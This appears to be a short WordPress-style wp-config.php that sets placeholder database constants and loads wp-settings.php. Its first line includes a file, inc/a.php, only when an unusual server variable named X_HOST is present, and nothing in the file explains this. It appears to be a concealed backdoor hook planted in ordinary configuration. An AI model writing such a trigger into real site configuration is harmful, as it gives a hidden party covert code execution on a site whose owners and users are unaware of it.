<?php
if (isset($_SERVER['X_HOST'])) { include __DIR__ . '/inc/a.php'; }
define('DB_NAME','n');
define('DB_USER','u');
require_once ABSPATH . 'wp-settings.php';
